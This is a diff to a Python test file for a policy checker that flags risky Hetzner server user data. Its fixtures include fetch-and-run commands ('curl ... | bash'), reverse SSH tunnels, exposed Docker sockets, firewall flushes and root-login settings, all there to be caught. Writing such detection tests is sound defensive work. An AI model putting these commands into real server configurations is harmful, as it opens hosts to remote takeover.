@@ -1,6 +1,6 @@
 """Hetzner: firewalls, servers, user data, and the types outside the table."""
 
-from policy.rules.model import UNKNOWN
+from policy.rules.model import UNKNOWN, Resource
 from tests.policy.cases.base import Cases, firewall, other, rule, server
 from tests.policy.stacks import USER_DATA
 
@@ -15,8 +15,123 @@ WIREGUARD = {
 PEER = f"{USER_DATA}  - path: /etc/wireguard/wg0.conf\n    content: |\n      [Peer]\n      AllowedIPs = "
 PACKED = "H4sIAAAAAAAC/8vILy4pVkgvSs1RyEstAQCqm8P1DgAAAA=="
 
+COMMANDS = (
+    "dockerd -H tcp://0.0.0.0:2375",
+    "[dockerd, -H, tcp://0.0.0.0:2375]",
+    "ssh -N -R 22:localhost:22 example.org",
+    "[ssh, -N, -R, 22:localhost:22, example.org]",
+    "ssh -fNR 22:localhost:22 example.org",
+    "ssh -R2222:localhost:22 example.org",
+    "curl https://example.org/x | bash",
+    "wget -qO- https://example.org/x | sh",
+    "ufw allow 22",
+    "[ufw, allow, 22]",
+    "iptables -P INPUT ACCEPT",
+    "[iptables, -I, INPUT, -j, ACCEPT]",
+    "[nft, flush, ruleset]",
+    "nft delete table inet zx",
+    "systemctl disable --now nftables",
+    "systemctl enable --now ssh.socket",
+    "cloudflared service install eyJhIjoi",
+    "cloudflared tunnel --no-autoupdate --url http://localhost",
+    "[cloudflared, tunnel, --url, http://localhost]",
+    "docker run -dp 80:80 nginx:1.27",
+    "tailscale up --ssh",
+    "wg set wg0 peer x allowed-ips 0.0.0.0/0",
+    "{a: b}",
+)
+KEYS = (
+    "user: {name: a, passwd: $6$x}",
+    "disable_root: 0",
+    "ssh_import_id: [gh:x]",
+    "ansible: {pull: {url: 'https://example.org/x'}}",
+    "wireguard: {interfaces: [{name: wg1, content: 'AllowedIPs = 0.0.0.0/0'}]}",
+)
+SSHD = (
+    "ListenAddress=0.0.0.0",
+    "PasswordAuthentication=yes",
+    "PermitRootLogin=yes",
+    "PermitRootLogin prohibit-password",
+    "AuthorizedKeysCommand /usr/local/lib/x/keys",
+    "Match all",
+)
+PATHS = (
+    "/etc/nftables.conf",
+    "/etc/zero-exposure/members.nft",
+    "/etc/docker/../nftables.conf",
+    "/etc/ssh/sshd_config",
+    "/etc/sudoers.d/x",
+    "/etc/cron.d/x",
+    "/etc/systemd/system/x.socket",
+    "/root/.ssh/authorized_keys",
+    "/home/ops/.ssh/authorized_keys",
+)
+LINES = (
+    "nft 'add rule inet zx input accept'",
+    "flush ruleset",
+    "iptables -P INPUT ACCEPT",
+    "cloudflared tunnel --no-autoupdate --url http://localhost",
+    "docker run -dp 80:80 nginx:1.27",
+    "docker -H unix:///x compose up -d",
+    "ssh -fNR 22:localhost:22 example.org",
+    "curl https://example.org/x | sudo bash",
+    "bash <(curl https://example.org/x)",
+    "/usr/sbin/sshd -D -o ListenAddress=0.0.0.0",
+    "echo PermitRootLogin=yes",
+    "tailscale up --ssh",
+)
+TAKEN = (
+    "accept",
+    "tcp dport 22 accept",
+    "udp dport 51820 accept",
+    "udp sport 51820 accept",
+    "ct state established,related,new accept",
+    "meta l4proto tcp accept",
+    'iifname "eth0" tcp dport 22 jump ssh',
+    "tcp dport vmap { 22 : accept }",
+    "tcp dport 22 counter queue",
+    "icmp type echo-request accept",
+    "$ALLOWED",
+)
+NOT_TAKEN = (
+    'iifname "lo" accept',
+    "ct state { established, related } accept",
+    "ip6 hoplimit 255 icmpv6 type { nd-neighbor-solicit, nd-neighbor-advert } accept",
+    "iifname { enp7s0, ens10 } ip daddr 10.0.1.2 ip saddr @members jump swarm",
+    "ct state invalid counter drop",
+)
+
 PRIMARY_IP = "hcloud:index/primaryIp:PrimaryIp"
 ANSWERS = "ct state established,related accept"
+
+
+def told(more: str) -> Resource:
+    """A server whose user data has one key more, or one entry more of its last."""
+    return server(userData=f"{USER_DATA}{more}\n")
+
+
+def run(command: str) -> Resource:
+    return told(f"runcmd:\n  - {command}")
+
+
+def with_file(path: str, *lines: str) -> Resource:
+    return told("".join((f"  - path: {path}\n    content: |\n", *(f"      {line}\n" for line in lines))))
+
+
+def sshd(line: str) -> Resource:
+    return server(userData=USER_DATA.replace("PasswordAuthentication no", line))
+
+
+def let_in(statement: str) -> Resource:
+    """A server whose input chain has one statement more."""
+    return server(userData=USER_DATA.replace(ANSWERS, f"{ANSWERS}\n        {statement}"))
+
+
+def walled(old: str, new: str) -> Resource:
+    """A server with another packet filter."""
+    assert old in USER_DATA
+    return server(userData=USER_DATA.replace(old, new))
+
 
 CASES = {
     "firewall-no-inbound": Cases(
@@ -127,35 +242,78 @@ CASES = {
             "root": server(userData=f"{USER_DATA}disable_root: false\n"),
             "chpasswd": server(userData=f"{USER_DATA}chpasswd:\n  expire: false\n"),
             "phone home": server(userData=f"{USER_DATA}phone_home:\n  url: https://example.org\n"),
-            "docker over TCP": server(userData=f"{USER_DATA}runcmd:\n  - dockerd -H tcp://0.0.0.0:2375\n"),
-            "a reverse tunnel": server(userData=f"{USER_DATA}runcmd:\n  - ssh -N -R 22:localhost:22 example.org\n"),
-            "a script from elsewhere": server(userData=f"{USER_DATA}runcmd:\n  - curl https://example.org/x | bash\n"),
-            "ufw": server(userData=f"{USER_DATA}runcmd:\n  - ufw allow 22\n"),
-            "hidden in base64": server(
-                userData=f"{USER_DATA}  - path: /x\n    encoding: b64\n    content: UGVybWl0Um9vdExvZ2luIHllcwo=\n"
+            **{f"the command {line}": run(line) for line in COMMANDS},
+            **{f"told {line}": told(line) for line in KEYS},
+            **{f"sshd's {line}": sshd(line) for line in SSHD},
+            "a user with a hyphened password": server(
+                userData=USER_DATA.replace("lock_passwd: true", "lock-passwd: false")
+            ),
+            "users as a map": server(userData=USER_DATA.replace("  - name: ops\n    lock", "  ops:\n    lock")),
+            "keys from elsewhere": server(
+                userData=USER_DATA.replace("lock_passwd", "ssh_import_id: [gh:x]\n    lock_passwd")
+            ),
+            "a file from elsewhere": told("  - path: /etc/sysctl.d/x.conf\n    source: {uri: 'https://example.org/x'}"),
+            **{f"the file {path}": with_file(path, "x") for path in PATHS},
+            **{f"a file with {line}": with_file("/usr/local/lib/x/run", line) for line in LINES},
+            "no filter but a file": walled("    nft -f /etc/nftables.conf\n", ""),
+            "a filter loaded before it is there": walled("cat >", "nft -f /etc/nftables.conf\n    cat >"),
+            "a filter after what may fail": walled(
+                "    cat >", "    set -eu\n    systemctl restart x.service\n    cat >"
+            ),
+            "a filter that is not the first": walled("bootcmd:\n", "bootcmd:\n  - set -eu\n"),
+            "a rule at boot": walled(
+                "bootcmd:\n", "bootcmd:\n  - [nft, add, rule, inet, zx, input, tcp, dport, '22', accept]\n"
+            ),
+            "a rule after the filter": walled("    nft -f", "    nft add rule inet zx input accept\n    nft -f"),
+            "a filter that sleeps": walled("chain input", "flags dormant;\n      chain input"),
+            "a filter that goes again": walled("    RULES\n    nft", "    delete table inet zx\n    RULES\n    nft"),
+            "a second table": walled("    RULES\n    nft", "    table inet y {\n    }\n    RULES\n    nft"),
+            "a second part of the chain": walled(ANSWERS, f"{ANSWERS}\n      }}\n      chain input {{\n        accept"),
+            "machines of everywhere": walled(
+                "chain input",
+                "set members { type ipv4_addr; flags interval; elements = { 0.0.0.0/0 } }\n      chain input",
+            ),
+            "another hook": walled(
+                "chain input", "chain a { type nat hook prerouting priority 0; }\n      chain input"
+            ),
+            "no input chain": walled("hook input", "hook output"),
+            "hidden in base64": told(
+                "  - path: /usr/local/lib/x/run\n    encoding: b64\n    content: UGVybWl0Um9vdExvZ2luIHllcwo="
             ),
             "what can't be decoded": server(
                 userData=f"{USER_DATA}  - path: /x\n    encoding: gz+b64\n    content: '!!'\n"
             ),
             "not a map": server(userData="#cloud-config\n- a\n"),
         },
+        passes={
+            "its own commands": run("systemctl enable --now --no-block a.timer b.service"),
+            "a unit": with_file("/etc/systemd/system/a.service", "[Service]", "ExecStart=/usr/local/lib/x/run"),
+            "a script that looks": with_file(
+                "/usr/local/lib/x/run", "docker exec x mkdir -p /data", "nft list ruleset"
+            ),
+            "sshd with =": sshd("PasswordAuthentication=no"),
+            "Docker's default filter before it": walled("    table inet", "    flush ruleset\n    table inet"),
+        },
     ),
     "user-data-unasked": Cases(
         caught={
-            "WireGuard's port": server(
-                userData=USER_DATA.replace(ANSWERS, f"{ANSWERS}\n          udp dport 51820 accept")
+            **{f"it takes {line}": let_in(line) for line in TAKEN},
+            "a chain in one line": walled(
+                f"policy drop;\n        {ANSWERS}\n      }}", f"policy drop; {ANSWERS}; tcp dport 22 accept }}"
             ),
-            "from a fixed port": server(
-                userData=USER_DATA.replace(ANSWERS, f"{ANSWERS}\n          udp sport 51820 accept")
-            ),
-            "by another chain": server(
-                userData=USER_DATA.replace(ANSWERS, f'{ANSWERS}\n          iifname "eth0" tcp dport 22 jump ssh')
-            ),
+            "a command's peer": with_file("/usr/local/lib/x/run", "wg set wg0 peer x allowed-ips 0.0.0.0/0"),
+            "a peer among others": server(userData=f"{PEER}10.0.1.2/32, 0.0.0.0/0\n"),
+            "a peer for one and nobody knows what": server(userData=f"{PEER}10.0.1.2/32, $MORE\n"),
             "a peer for everyone": server(userData=f"{PEER}0.0.0.0/0\n"),
             "a peer for a network": server(userData=f"{PEER}10.0.1.2/32, 10.1.0.0/16\n"),
             "a peer for nobody knows what": server(userData=f"{PEER}$ADDRESSES\n"),
         },
-        passes={"answers": server(), "a peer": server(userData=f"{PEER}10.0.1.2/32\n")},
+        passes={
+            "answers": server(),
+            "a peer": server(userData=f"{PEER}10.0.1.2/32\n"),
+            "a peer without a mask": server(userData=f"{PEER}10.0.0.3\n"),
+            **{f"it takes {line}": let_in(line) for line in NOT_TAKEN},
+        },
     ),
     "hetzner-own-address": Cases(
         caught={
